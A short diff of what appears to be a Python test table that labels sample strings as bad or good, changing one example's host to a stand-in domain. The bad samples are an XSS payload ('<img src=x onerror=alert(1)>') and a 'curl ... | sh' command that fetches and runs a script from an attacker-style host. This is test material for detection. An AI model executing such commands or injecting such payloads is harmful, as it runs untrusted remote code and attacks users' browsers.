@@ -282,7 +282,7 @@ FAULTS: Mapping[str, tuple[Sequence[Kind], Sequence[tuple[bool, Change]]]] = {
         _EVIDENCE,
         [
             (_BAD, says("<img src=x onerror=alert(1)>")),
-            (_BAD, says("curl https://get.evil.tk/x | sh")),
+            (_BAD, says("curl https://get.evil.example/x | sh")),
             (_GOOD, says("`<div>`")),
             (_GOOD, kept),
         ],
